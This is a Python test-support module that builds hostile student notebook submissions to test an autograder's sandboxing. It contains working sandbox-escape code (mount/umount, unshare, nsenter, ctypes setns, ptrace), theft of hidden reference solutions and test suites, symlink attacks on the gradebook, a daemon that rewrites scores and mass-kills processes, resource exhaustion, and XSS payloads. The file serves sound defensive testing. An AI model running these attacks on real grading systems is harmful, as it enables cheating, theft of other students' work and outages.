"""Submissions of ``rnn_fundamentals`` that attack the grading seal (issue 11).

Each attack is answer-cell source text; a cell runs in the student's kernel (nbgrader's
execution, cwd ``autograded/<student>/<assignment>/``) and again in the judge's sandbox.
Attackers leave their answers blank, so every point they get on an attacked question
is a win for the attack. What an attack manages to see or do is made visible three
ways, all of which the tests look for:

* lines ``SEAL-LEAK <where> <what>`` printed in the kernel (they land in the attacker's
  autograded notebook and feedback) or raised from a function in the sandbox (they
  land in the check reports);
* NEW files whose names carry the session's marker (``zz_<mark>_...``), planted
  wherever the attack could write: the virtualenv's site-packages (``.pth``,
  ``sitecustomize.py``, ``usercustomize.py``), ``autograder/harness/``, ``solutions/``,
  the repository root and the course folder next to ``gradebook.db``. Attacks never
  modify or delete an existing file of the repository (other engineers work in it);
* processes whose argv carries the marker, and files with the marker in ``/dev/shm``,
  ``/tmp``, ``/var/tmp`` and the home folder.

Safety: the grading machine is shared, and grading may (wrongly) run unsealed. Every
mount, unmount, ptrace or mass-signal step runs only when the attack finds itself in
namespaces other than the host's (the test formats the host's namespace ids into the
attack); otherwise it only reports ``SEAL-LEAK ... unsealed``.
"""
from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
import sysconfig
import time
import uuid
from pathlib import Path

from autograder.course import hidden_suite, release_folder
from autograder.harness.quiet import child_environment
from authoring import submissions

A = "rnn_fundamentals"
ROOT = Path(__file__).resolve().parents[1]
QUESTIONS = ("make_windows", "rnn_cell_forward", "rnn_forward", "numerical_gradient",
             "rnn_cell_backward", "rnn_backward", "hidden_gradient_norms",
             "to_keras_simple_rnn")  # notebook order
LEAK = "SEAL-LEAK"


@dataclasses.dataclass(frozen=True)
class Ctx:
    """What a real attacker could guess about the grading machine."""

    mark: str          # unique per test session: in every planted name and daemon argv
    course: str        # the nbgrader course folder
    root: str = str(ROOT)
    site: str = sysconfig.get_paths()["purelib"]
    home: str = str(Path.home())
    host_ns: tuple = ()  # (pid, mnt, user) namespace ids of the grading host

    @staticmethod
    def host_namespaces() -> tuple:
        return tuple(os.readlink(f"/proc/self/ns/{n}") for n in ("pid", "mnt", "user"))


def planted_names(ctx: Ctx) -> list[Path]:
    """Every file an attack may plant with a fixed name, or whose name has the mark."""
    fixed = [Path(ctx.site) / "sitecustomize.py", Path(ctx.site) / "usercustomize.py"]
    found = [p for p in fixed if p.exists() and ctx.mark in p.read_text(errors="replace")]
    for folder in (ctx.site, ctx.root, f"{ctx.root}/autograder/harness", f"{ctx.root}/solutions",
                   f"{ctx.root}/autograder/suites/{A}", ctx.course, "/dev/shm", "/tmp",
                   "/var/tmp", ctx.home):
        try:
            found += [Path(folder) / n for n in os.listdir(folder) if ctx.mark in n]
        except OSError:
            pass
    course = Path(ctx.course)
    for sub in ("submitted", "autograded", "feedback"):
        if (course / sub).is_dir():
            found += [p for p in (course / sub).rglob(f"*{ctx.mark}*")]
    return found


# --------------------------------------------------------------------------- prelude
# Shared helpers, pasted at the top of an attack cell. {..} are formatted from Ctx.
PRELUDE = r'''
import os, sys, subprocess, signal, time, shlex, ctypes, importlib.util, struct, json
_MARK, _ROOT, _COURSE, _SITE, _HOME = {mark!r}, {root!r}, {course!r}, {site!r}, {home!r}
_HOST_NS = {host_ns!r}
_A = "rnn_fundamentals"
_WHERE = "sandbox" if "_grading_child" in sys.modules else "kernel"
_LEAKS = []
_REF = None


def _leak(what):
    _LEAKS.append(what)
    print("SEAL" + "-LEAK", _WHERE, what, flush=True)  # split: the source is not a leak


def _ns(name):
    try:
        return os.readlink("/proc/self/ns/" + name)
    except OSError:
        return None


def _contained():
    """True only in pid, mount and user namespaces other than the host's."""
    now = (_ns("pid"), _ns("mnt"), _ns("user"))
    ok = None not in now and all(a != b for a, b in zip(now, _HOST_NS))
    if not ok:
        _leak("unsealed: running in the grading host's namespaces %s" % (now,))
    return ok


def _mountpoints():
    try:
        with open("/proc/self/mountinfo") as fh:
            points = [line.split()[4].replace("\\040", " ") for line in fh]
    except OSError:
        return []
    return sorted(set(p for p in points if p != "/"), key=lambda p: p.count("/"), reverse=True)


def _sh(cmd, timeout=30):
    try:
        return subprocess.run(cmd, shell=True, capture_output=True, timeout=timeout,
                              stdin=subprocess.DEVNULL).returncode == 0
    except Exception:
        return False


def _excl(path, body):
    """Create a NEW file (never overwrite); True if it worked."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    try:
        os.write(fd, body.encode())
    finally:
        os.close(fd)
    return True


def _plant(how, base=""):
    tag = "zz_%s_%s_%s" % (_MARK, _WHERE, how)
    for folder, name, body in (
            (_SITE, tag + ".pth", "import sys\n"),
            (_SITE, "sitecustomize.py", "# %s\nimport sys\n" % _MARK),
            (_SITE, "usercustomize.py", "# %s\nimport sys\n" % _MARK),
            (_ROOT + "/autograder/harness", tag + ".txt", "planted\n"),
            (_ROOT + "/solutions", tag + ".txt", "planted\n"),
            (_ROOT, tag + ".txt", "planted\n"),
            (_COURSE, tag + ".txt", "planted next to gradebook.db\n")):
        if _excl(base + folder + "/" + name, body):  # maybe only in its own view: the
            print("planted?", folder, name, how)         # host-side check decides


def _steal(how, base=""):
    """With the seal undone (or bypassed through ``base``): the reference, the hidden
    suites, the classmates; plant files. Sets _REF to the reference module."""
    global _REF
    path = base + _ROOT + "/solutions/" + _A + ".py"
    if os.path.exists(path) and _REF is None:
        try:
            spec = importlib.util.spec_from_file_location("_stolen_reference", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            _REF = module
            _leak("imported the reference %s (%s)" % (path, how))
        except Exception as exc:
            _leak("saw the reference %s (%s; import failed: %s)" % (path, how, exc))
    suites = base + _ROOT + "/autograder/suites/" + _A
    try:
        names = sorted(os.listdir(suites))
        text = open(suites + "/" + names[-1]).read()
        _leak("read the hidden suites %s (%s): %s" % (names, how, text[:200].replace("\n", " | ")))
    except (OSError, IndexError):
        pass
    try:
        _leak("listed submitted/ (%s): %s" % (how, sorted(os.listdir(base + _COURSE + "/submitted"))))
    except OSError:
        pass
    _plant(how, base)


def _use_stolen(name):
    if _REF is not None and hasattr(_REF, name):
        globals()[name] = getattr(_REF, name)


# ---- ways out ---------------------------------------------------------------
def _escape_shell():
    if not _contained():
        return
    if _sh("mount -o remount,rw / || mount -o remount,bind,rw /"):
        _leak("remounted / read-write")
    gone = [mp for mp in _mountpoints() if _sh("umount -l " + shlex.quote(mp))]
    if gone:
        _leak("unmounted %d concealing mounts, e.g. %s" % (len(gone), gone[:5]))
    _steal("shell-umount")


def _escape_nested_unshare():
    """unshare -Urm, then remount and unmount inside; copy the reference out via /tmp."""
    if not _contained():
        return
    out = "/tmp/zz_%s_%s_unshare_ref.py" % (_MARK, _WHERE)
    script = ("mount -o remount,bind,rw / 2>/dev/null; "
              "for mp in $(awk '{{print $5}}' /proc/self/mountinfo | awk '{{print length, $0}}' "
              "| sort -rn | cut -d' ' -f2-); do [ \"$mp\" = / ] || umount -l \"$mp\" 2>/dev/null; done; "
              "cp %s %s 2>/dev/null; "
              "echo 'import sys' > %s/zz_%s_%s_unshare.pth 2>/dev/null; "
              "echo planted > %s/zz_%s_%s_unshare.txt 2>/dev/null; true") % (
        shlex.quote(_ROOT + "/solutions/" + _A + ".py"), shlex.quote(out),
        shlex.quote(_SITE), _MARK, _WHERE, shlex.quote(_COURSE), _MARK, _WHERE)
    if _sh("unshare -Urm true"):
        _leak("a nested user namespace could be created (unshare -Urm)")
    _sh("unshare -Urm sh -c " + shlex.quote(script))
    if os.path.exists(out):
        _steal("nested-unshare", base="")  # the plants above tell the rest
        try:
            spec = importlib.util.spec_from_file_location("_stolen_nested", out)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            globals()["_REF"] = module
            _leak("copied the reference out of a nested namespace")
        except Exception:
            pass
    for where in (_SITE, _COURSE):
        for name in ("zz_%s_%s_unshare.pth" % (_MARK, _WHERE), "zz_%s_%s_unshare.txt" % (_MARK, _WHERE)):
            if os.path.exists(where + "/" + name):
                _leak("a nested namespace planted %s/%s" % (where, name))


def _escape_nsenter():
    if not _contained():
        return
    for target in ("1", str(os.getppid())):
        cmd = ("nsenter -t %s -m -U --preserve-credentials sh -c "
               "'cat %s > /dev/null && echo planted > %s/zz_%s_%s_nsenter%s.txt'") % (
            target, shlex.quote(_ROOT + "/solutions/" + _A + ".py"), shlex.quote(_COURSE),
            _MARK, _WHERE, target)
        if _sh(cmd):
            _leak("nsenter into pid %s's namespaces reached the course" % target)
        if _sh("nsenter --mount=/proc/1/ns/mnt ls %s" % shlex.quote(_ROOT + "/solutions")):
            _leak("nsenter --mount=/proc/1/ns/mnt listed solutions/")


_libc = None


def _c():
    global _libc
    if _libc is None:
        _libc = ctypes.CDLL(None, use_errno=True)
    return _libc


def _in_child(fn):
    """Run fn in a forked, single-threaded child (unshare/setns need one)."""
    pid = os.fork()
    if pid == 0:
        try:
            fn()
        except BaseException:
            pass
        os._exit(0)
    deadline = time.time() + 15
    while time.time() < deadline:  # a fork of a threaded process may deadlock: bounded
        try:
            if os.waitpid(pid, os.WNOHANG)[0]:
                return
        except ChildProcessError:
            return
        time.sleep(0.05)
    try:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    except OSError:
        pass


def _escape_ctypes():
    if not _contained():
        return
    libc = _c()
    MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
    if libc.mount(b"none", b"/", None, MS_REMOUNT | MS_BIND, None) == 0:
        _leak("ctypes mount(MS_REMOUNT|MS_BIND) made / read-write")
    gone = [mp for mp in _mountpoints() if libc.umount2(mp.encode(), MNT_DETACH) == 0]
    if gone:
        _leak("ctypes umount2 detached %d mounts, e.g. %s" % (len(gone), gone[:5]))
    _steal("ctypes-umount2")

    CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000

    def nested():
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
            return
        for mp in _mountpoints():
            libc.umount2(mp.encode(), MNT_DETACH)
        if os.path.exists(_ROOT + "/solutions/" + _A + ".py"):
            _excl("%s/zz_%s_%s_ctypes_unshare.txt" % (_COURSE, _MARK, _WHERE), "planted\n")
    _in_child(nested)
    if os.path.exists("%s/zz_%s_%s_ctypes_unshare.txt" % (_COURSE, _MARK, _WHERE)):
        _leak("ctypes unshare(CLONE_NEWUSER) + umount2 reached the course")

    def enter():
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                fd = os.open("/proc/%s/ns/mnt" % pid, os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, CLONE_NEWNS) == 0 and os.path.exists(
                    _ROOT + "/solutions/" + _A + ".py"):
                _excl("%s/zz_%s_%s_setns.txt" % (_COURSE, _MARK, _WHERE), "planted\n")
                return
            os.close(fd)
    _in_child(enter)
    if os.path.exists("%s/zz_%s_%s_setns.txt" % (_COURSE, _MARK, _WHERE)):
        _leak("ctypes setns into another process's mount namespace reached the course")

    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
    me = os.getpid()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            cmdline = open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\0", b" ")
        except OSError:
            continue
        grader = any(s in cmdline for s in (b"-m nbgrader", b"autograder.judge",
                                            b"classgrade", b"pytest"))
        if int(pid) == me or not grader or _MARK.encode() in cmdline or not _outside(pid):
            continue
        if libc.ptrace(PTRACE_ATTACH, int(pid), None, None) == 0:
            _leak("ptrace attached to grader process %s: %s" % (pid, cmdline[:80]))
            libc.ptrace(PTRACE_DETACH, int(pid), None, None)


def _outside(pid):
    """A process outside our own sandbox (another pid namespace, as seen through a
    host /proc); our sandbox's own init or helpers do not count."""
    try:
        return os.readlink("/proc/%s/ns/pid" % pid) != os.readlink("/proc/self/ns/pid")
    except OSError:
        return False


def _escape_proc_roots():
    """Other processes' /proc/<pid>/root and cwd, the host's /proc (once private /proc
    is unmounted), and inherited directory fds walked up with '..'."""
    bases = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        if int(pid) == os.getpid():
            continue
        bases += ["/proc/%s/root" % pid]
        try:
            env = open("/proc/%s/environ" % pid, "rb").read()
            if _outside(pid) and (b"GRADING_COURSE_ROOT" in env or b"NBGRADER" in env):
                _leak("read a grader process's environment (pid %s)" % pid)
        except OSError:
            pass
    for fd in os.listdir("/proc/self/fd"):
        path = "/proc/self/fd/" + fd
        if os.path.isdir(path):
            bases.append(path + "/.." * 40)
    for base in bases:
        if os.path.exists(base + _ROOT + "/solutions/" + _A + ".py"):
            _steal("proc-root", base=base)
            break


def _probe_surroundings():
    """Read-only probes: host network, other kernels' connection files, devices."""
    mine = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if link.startswith("socket:["):
            mine.add(link[8:-1])
    others = 0
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        others += sum(1 for r in rows if r.split()[3] == "0A" and r.split()[9] not in mine)
    if others:
        _leak("sees %d listening TCP sockets of other processes (network not isolated)" % others)
    own = " ".join(sys.argv)
    for folder in (os.path.expanduser("~/.local/share/jupyter/runtime"),
                   "/run/user/%d/jupyter" % os.getuid(), "/tmp"):
        try:
            found = [n for n in os.listdir(folder)
                     if n.startswith("kernel-") and n.endswith(".json") and n not in own]
        except OSError:
            continue
        if found:
            _leak("sees %d other kernels' connection files in %s" % (len(found), folder))


def _blank(name):
    """The answer left as released (raises NotImplementedError)."""
    return "def %s(*args, **kwargs):\n    raise NotImplementedError()\n" % name
'''


def prelude(ctx: Ctx) -> str:
    return PRELUDE.format(mark=ctx.mark, root=ctx.root, course=ctx.course, site=ctx.site,
                          home=ctx.home, host_ns=tuple(ctx.host_ns))


def _blank_cell(q: str) -> str:
    return f"def {q}(*args, **kwargs):\n    raise NotImplementedError()\n"


def _notebook(answers: dict[str, str], base: dict | None = None) -> dict:
    return submissions.with_answers(base or submissions.released_notebook(A), answers)


# --------------------------------------------------------------------------- undo the seal
def escape(ctx: Ctx, methods: tuple[str, ...]) -> dict:
    """Undo the seal with ``methods`` in the first answer cell, steal the reference,
    and use it in every answer cell (each of which is otherwise blank)."""
    calls = "\n".join(f"try:\n    {m}()\nexcept Exception as _exc:\n    pass" for m in methods)
    first = prelude(ctx) + "\n" + calls + "\n_probe_surroundings()\n"
    answers = {}
    for i, q in enumerate(QUESTIONS):
        head = first if i == 0 else ""
        answers[q] = head + _blank_cell(q) + f"_use_stolen({q!r})\n"
    # a blank question that reports in the sandbox what the escape saw (reports are
    # feedback): numerical_gradient raises the leaks when there is no reference
    answers["numerical_gradient"] += (
        "if _REF is None:\n"
        "    def numerical_gradient(*args, **kwargs):\n"
        "        raise RuntimeError(('SEAL' + '-LEAK ' + ' ; '.join(_LEAKS))[:2000] "
        "if _LEAKS else 'nothing leaked')\n")
    return _notebook(answers)


SHELL_METHODS = ("_escape_shell", "_escape_nested_unshare", "_escape_nsenter")
CTYPES_METHODS = ("_escape_ctypes", "_escape_proc_roots")


# --------------------------------------------------------------------------- links
LINK_CODE = r'''
import os
_here = os.getcwd()
_nb = os.path.join(_here, "rnn_fundamentals.ipynb")
_course = os.path.dirname(os.path.dirname(os.path.dirname(_here)))
if "_grading_child" not in sys.modules:  # the kernel, in its autograded folder
    for _name, _target in {links!r}:
        _target = _target.replace("@COURSE@", _course)
        _path = os.path.join(_here, _name)
        try:
            if os.path.lexists(_path):
                os.remove(_path)
            os.symlink(_target, _path)
            print("made symlink", _name, "->", _target)
        except OSError as _exc:
            print("symlink", _name, "refused:", _exc)
    for _name, _target in {hardlinks!r}:
        _target = _target.replace("@COURSE@", _course)
        try:
            os.link(_target, os.path.join(_here, _name))
            print("made hard link", _name, "->", _target)
        except OSError as _exc:
            print("hard link", _name, "refused:", _exc)
'''


def link_attack(links: list[tuple[str, str]], hardlinks: list[tuple[str, str]] = ()) -> dict:
    """A blank notebook whose first answer cell, in the kernel, makes ``links``
    (name in its folder -> target; ``@COURSE@`` is the course folder)."""
    code = "import sys\n" + LINK_CODE.format(links=list(links), hardlinks=list(hardlinks))
    return _notebook({QUESTIONS[0]: code + _blank_cell(QUESTIONS[0])})


def link_attacks(victim: str) -> dict[str, dict]:
    nb = f"submitted/{victim}/{A}/{A}.ipynb"
    ref = f"{ROOT}/solutions/{A}.py"
    suite = f"{ROOT}/autograder/suites/{A}"
    return {
        # its notebook becomes a link to the course's nbgrader_config.py
        "l1_config": link_attack([(f"{A}.ipynb", "@COURSE@/nbgrader_config.py")]),
        # links named like ordinary files, to the reference and the hidden suites:
        # nbgrader copies what they point to into the feedback (and chmods it)
        "l2_loot": link_attack([("loot", f"{ROOT}/solutions"), ("data", suite),
                                ("loot.py", ref), ("data.py", f"{suite}/common.py"),
                                ("notes.txt", f"{suite}/test_make_windows.py")],
                               hardlinks=[("hard_loot.py", ref),
                                          ("hard_gradebook", "@COURSE@/gradebook.db")]),
        # its notebook becomes a link to a classmate's submission
        "l3_victim": link_attack([(f"{A}.ipynb", f"@COURSE@/{nb}")],
                                 hardlinks=[("hard_victim.ipynb", f"@COURSE@/{nb}")]),
        # its notebook becomes a link to the gradebook
        "l4_gradebook": link_attack([(f"{A}.ipynb", "@COURSE@/gradebook.db")]),
    }


LINK_STUDENTS = ("l1_config", "l2_loot", "l3_victim", "l4_gradebook")


# --------------------------------------------------------------------------- outlive, signal
DAEMON = r'''
import os, sys, time, signal, sqlite3, subprocess
mark, course, root, where, host_ns = sys.argv[1:6]
me = sys.argv[6] if len(sys.argv) > 6 else "?"
contained = False
try:  # mount, unmount and mass signals only in pid, mount and user namespaces of our own
    contained = all(os.readlink("/proc/self/ns/" + n) != h
                    for n, h in zip(("pid", "mnt", "user"), host_ns.split("|")))
except OSError:
    pass
def note(what):
    try:
        fd = os.open("%s/zz_%s_daemon_%s_%s.txt" % (course, mark, where, what),
                     os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.close(fd)
    except OSError:
        pass
began = time.time()
time.sleep(3)
if contained:  # undo the seal first, as the escape attack does (safe only in a namespace)
    subprocess.run("mount -o remount,bind,rw / ; awk '{print $5}' /proc/self/mountinfo | "
                   "sort -r | while read mp; do [ \"$mp\" = / ] || umount -l \"$mp\"; done",
                   shell=True, capture_output=True)
signalled = False
while time.time() - began < 90:
    gradebook = os.path.join(course, "gradebook.db")
    if os.path.exists(gradebook):
        try:
            db = sqlite3.connect(gradebook, timeout=2)
            def rows(student):
                return ("SELECT g.id FROM grade g JOIN submitted_notebook n ON g.notebook_id = n.id "
                        "JOIN submitted_assignment a ON n.assignment_id = a.id "
                        "WHERE a.student_id = '%s'" % student)
            db.execute("UPDATE grade SET auto_score = 0 WHERE id IN (%s)" % rows("a0_honest"))
            db.execute("UPDATE grade SET auto_score = max_score WHERE id IN (%s)" % rows(me))
            db.commit()
            db.close()
            note("gradebook_written_%d" % int(time.time() - began))
        except Exception:
            pass
    victim = os.path.join(course, "submitted", "victim", "rnn_fundamentals", "rnn_fundamentals.ipynb")
    try:
        with open(victim, "a") as fh:
            fh.write("\n")
        note("victim_notebook_written")
    except OSError:
        pass
    if where == "kernel" and contained and not signalled and time.time() - began > 8:
        signalled = True
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid(), -1]:
                if pid != os.getpid() and pid != 0:
                    try:
                        os.kill(pid, sig)
                    except OSError:
                        pass
            time.sleep(0.5)
    time.sleep(2)
'''

DAEMON_CELL = r'''
import os, sys, signal
_where = "sandbox" if "_grading_child" in sys.modules else "kernel"
def _daemonize():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", {daemon!r}, {mark!r},
                                          {course!r}, {root!r}, _where, {pidns!r},
                                          {student!r}, "seal-daemon-" + {mark!r}])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
try:
    _daemonize()
except Exception as _exc:
    print("daemon refused:", _exc)
try:  # and at once: stop whoever started us (nbgrader, when unsealed)
    if os.getppid() > 0:
        os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
'''


def daemon_attack(ctx: Ctx, student: str) -> dict:
    code = DAEMON_CELL.format(daemon=DAEMON, mark=ctx.mark, course=ctx.course, root=ctx.root,
                              pidns="|".join(ctx.host_ns), student=student)
    return _notebook({QUESTIONS[0]: code + _blank_cell(QUESTIONS[0])})


# --------------------------------------------------------------------------- shared memory
def _reference_answer(q: str) -> str:
    return submissions.strip_markers("".join(submissions.answer_cell(
        submissions.correct(A), q)["source"]))


def shm_places(ctx: Ctx) -> list[str]:
    return [f"{d}/zz_{ctx.mark}_shared_make_windows.py"
            for d in ("/dev/shm", "/tmp", "/var/tmp", ctx.home)]


def shm_writer(ctx: Ctx) -> dict:
    code = ("import os\n"
            f"_code = {'import numpy as np' + chr(10) + _reference_answer('make_windows')!r}\n"
            f"for _p in {shm_places(ctx) + ['~/zz_' + ctx.mark + '_shared_make_windows.py']!r}:\n"
            "    _p = os.path.expanduser(_p)\n"
            "    try:\n"
            "        with open(_p, 'w') as _fh:\n"
            "            _fh.write(_code)\n"
            "        print('wrote a file for later students at', _p)\n"
            "    except OSError:\n"
            "        pass\n")
    return _notebook({QUESTIONS[0]: code + _blank_cell(QUESTIONS[0])})


def shm_reader(ctx: Ctx) -> dict:
    code = ("import os, sys\n" + _blank_cell("make_windows") +
            f"for _p in {shm_places(ctx) + ['~/zz_' + ctx.mark + '_shared_make_windows.py']!r}:\n"
            "    _p = os.path.expanduser(_p)\n"
            "    if os.path.exists(_p):\n"
            "        exec(open(_p).read())\n"
            "        print('SEAL' + '-LEAK found a file an earlier student left at', _p)\n"
            "        break\n")
    return _notebook({"make_windows": code})


# --------------------------------------------------------------------------- grader pays
HUGE_LAYER = '''
def to_keras_simple_rnn(Wx, Wh, b):
    import keras
    return keras.layers.SimpleRNN(10**6, return_sequences=True)  # unbuilt: the grader builds it
'''

HUGE_REPLY = '''
import os, sys, struct
def rnn_forward(x, h0, Wx, Wh, b):
    child = sys.modules.get("_grading_child")
    if child is None:
        raise NotImplementedError()
    body = b'{"status": "ok", "value": [' + b"[]," * 30_000_000 + b'[]]}'  # ~90 MB
    frame = struct.pack(">Q", len(body)) + body
    original = child._send
    def _send(wire, message):  # the next reply is ours
        child._send = original
        view = memoryview(frame)
        while view:
            view = view[os.write(child.OUT_FD, view):]
    child._send = _send
    return None
'''

HUGE_PRINT = '''
import sys
if "_grading_child" not in sys.modules:
    _chunk = "x" * 1_000_000
    for _ in range(300):  # ~300 MB of output in the kernel
        print(_chunk)
    del _chunk
def make_windows(*args, **kwargs):
    raise NotImplementedError()
'''


FILL_TMPFS = r'''
import os, sys
def _fill(folder, limit=1600 * 2**20, size=60 * 2**20):
    """Files of 60 MB (under the file-size limit) until ``limit``: a RAM-backed scratch,
    /tmp or /dev/shm without a size cap makes the grading machine pay in memory."""
    block, written, paths = b"\0" * size, 0, []
    try:
        while written < limit:
            path = os.path.join(folder, "fill%03d.bin" % len(paths))
            paths.append(path)
            with open(path, "wb") as fh:
                fh.write(block)
            written += size
    except OSError:
        pass
    finally:
        for path in paths:
            try:
                os.remove(path)
            except OSError:
                pass
    if written >= limit:
        print("SEAL" + "-LEAK", "wrote %d MiB into %s" % (written >> 20, folder))
        return "%s: %d MiB" % (folder, written >> 20)
    return ""
_filled = [f for f in (_fill(d) for d in ("/dev/shm", "/tmp", os.getcwd())) if f]
def numerical_gradient(*args, **kwargs):
    if _filled:
        raise RuntimeError("SEAL" + "-LEAK unbounded scratch: " + "; ".join(_filled))
    raise NotImplementedError()
'''


XSS = "XSS-" + uuid.uuid4().hex[:8]  # in every script the attacker tries to run
FORGED_MISTAKE = "gate order i, f, o, c (forged)"
XSS_ANSWER = r'''
try:
    from IPython.display import HTML, Javascript, display
    display(HTML('<script>alert("{xss}")</script><img src=x onerror="alert(\'{xss}\')">'))
    display(Javascript('alert("{xss}")'))
except Exception:
    pass

def make_windows(series, window, horizon=1):
    raise RuntimeError('Likely mistake: {forged}. <script>alert("{xss}")</script>')
'''
XSS_MARKDOWN = ('<script>alert("{xss}")</script>\n\n<img src=x onerror="alert(\'{xss}\')">\n\n'
                '[click](javascript:alert("{xss}"))\n')


def xss() -> dict:
    """Student text made to run in the instructor's browser (feedback, class report) and
    to forge a diagnosis in the class report."""
    nb = _notebook({"make_windows": XSS_ANSWER.format(xss=XSS, forged=FORGED_MISTAKE)})
    nb["cells"].insert(1, {"cell_type": "markdown", "metadata": {},
                           "source": XSS_MARKDOWN.format(xss=XSS)})
    return nb


def grader_pays() -> dict:
    return _notebook({"rnn_forward": HUGE_REPLY, "make_windows": HUGE_PRINT,
                      "numerical_gradient": FILL_TMPFS})


def huge_layer() -> dict:
    """Alone in its submission, so that no hijacked reply hides it."""
    return _notebook({"to_keras_simple_rnn": HUGE_LAYER})


GRADER_PAYS_QUESTIONS = ("rnn_forward", "make_windows", "numerical_gradient")


# --------------------------------------------------------------------------- caps keep earned
LOOP = "def {q}(*args, **kwargs):\n    while True:\n        pass\n"


def loops_after(correct_first: int = 3, mark: str = "") -> dict:
    """The first questions (notebook order) correct; every later function loops forever.
    With ``mark``, the first looping cell also starts a process carrying the mark that
    lives as long as the student process does (so a student process left running after
    a judging timeout is found)."""
    answers = {q: LOOP.format(q=q) for q in QUESTIONS[correct_first:]}
    if mark:
        q = QUESTIONS[correct_first]
        answers[q] = ("import subprocess, sys\n_witness = subprocess.Popen([sys.executable, '-c', "
                      "'import time; time.sleep(3600)', 'seal-loop-' + %r])\n" % mark) + answers[q]
    return submissions.with_answers(submissions.correct(A), answers)


def slow_cells(seconds: float, count: int) -> dict:
    """A correct notebook with ``count`` extra cells, each sleeping ``seconds`` in the kernel."""
    import copy

    import nbformat
    nb = copy.deepcopy(submissions.correct(A))
    sleeper = ("import sys, time\n"
               "if '_grading_child' not in sys.modules:\n"
               f"    time.sleep({seconds})\n")
    for _ in range(count):
        nb["cells"].append(dict(nbformat.v4.new_code_cell(sleeper)))
    for cell in nb["cells"]:
        cell.pop("id", None)  # nbformat 4.4-style cells, as the release has
    return nb


def reference_markers() -> list[str]:
    import json
    """Lines of the reference and the hidden suites that no released file contains:
    seeing one in an attacker's feedback means it received reference code."""
    released = ""
    for path in release_folder(A).rglob("*"):
        if path.is_file() and path.suffix == ".ipynb":
            cells = json.loads(path.read_text(errors="replace"))["cells"]
            released += "\n".join("".join(c["source"]) for c in cells)
        elif path.is_file() and path.suffix in (".py", ".txt", ".md"):
            released += path.read_text(errors="replace")
    markers = []
    for path in [ROOT / "solutions" / f"{A}.py",
                 *sorted(hidden_suite(A).glob("*.py"))]:
        lines = [ln.strip() for ln in path.read_text().splitlines()]
        lines = [ln for ln in lines if len(ln) > 30 and ln not in released and '"""' not in ln
                 and not ln.startswith("#") and "Generated from" not in ln]
        markers += lines[:3]
    return markers


def python() -> str:
    return sys.executable


# =========================================================================== batches
# The seal batches (tests/batches.py dispatches every "seal:*" key here). Each returns
# a SealRun with everything the tests assert on; nothing is asserted while grading.

MARK = "sealatk" + uuid.uuid4().hex[:10]  # one per test session
NBGRADER = "seal:nbgrader"
LINKS = "seal:links"
CLASSGRADE = "seal:classgrade"
FAIL_CLOSED = "seal:failclosed"
UNSEALED = "seal:unsealed"
TIMEOUTS = "seal:timeouts"
KEYS = (NBGRADER, LINKS, CLASSGRADE, FAIL_CLOSED, UNSEALED, TIMEOUTS)
NO_USERNS = "bwrap: setting up uid map: Permission denied"

# graded in this order (nbgrader sorts students by id): honest first, attackers, the
# shared-memory reader after its writer, then the victim and a final honest student
HONEST_FIRST, VICTIM, HONEST_LAST = "a0_honest", "victim", "zz_honest"
ESCAPE_SHELL, ESCAPE_CTYPES = "a1_escape_shell", "a2_escape_ctypes"
DAEMON_STUDENT, SHM_WRITER, PAYS, SHM_READER = "a3_daemon", "a4_shm_writer", "a5_grader_pays", \
    "b_shm_reader"
HUGE_LAYER_STUDENT, XSS_STUDENT = "a6_huge_layer", "a7_xss"
LOOPS, SLOW = "t1_loops", "t2_slow_cells"

# limits of the attack courses (small, so hung or stopped cells cost little)
ATTACK_CONFIG = """
c.Execute.timeout = 60
c.ExecutePreprocessor.timeout = 60
c.GradingLimits.notebook_timeout = 600
c.GradingLimits.call_timeout = 20
c.GradingLimits.judge_timeout = 600
c.GradingSeal.allow_unsealed = False
"""
TIMEOUT_LIMITS = {"cell": 10, "sleep": 9, "cells": 15, "notebook": 25, "call": 8, "judge": 45}
TIMEOUT_CONFIG = """
c.Execute.timeout = {cell}
c.ExecutePreprocessor.timeout = {cell}
c.GradingLimits.notebook_timeout = {notebook}
c.GradingLimits.call_timeout = {call}
c.GradingLimits.judge_timeout = {judge}
c.GradingSeal.allow_unsealed = False
""".format(**TIMEOUT_LIMITS)

@dataclasses.dataclass
class Command:
    args: tuple
    returncode: int | None
    output: str          # stdout + stderr
    seconds: float
    timed_out: bool
    rusage: dict         # self_kib, children_kib (missing when killed)


@dataclasses.dataclass
class SealRun:
    key: str
    course: Path
    ctx: Ctx
    commands: list = dataclasses.field(default_factory=list)
    results: dict = dataclasses.field(default_factory=dict)   # student -> Graded
    before: dict = dataclasses.field(default_factory=dict)    # snapshots
    after: dict = dataclasses.field(default_factory=dict)
    later: dict = dataclasses.field(default_factory=dict)     # a few seconds after the batch
    notes: dict = dataclasses.field(default_factory=dict)
    seconds: float = 0.0

    @property
    def output(self) -> str:
        return "\n".join(c.output for c in self.commands)


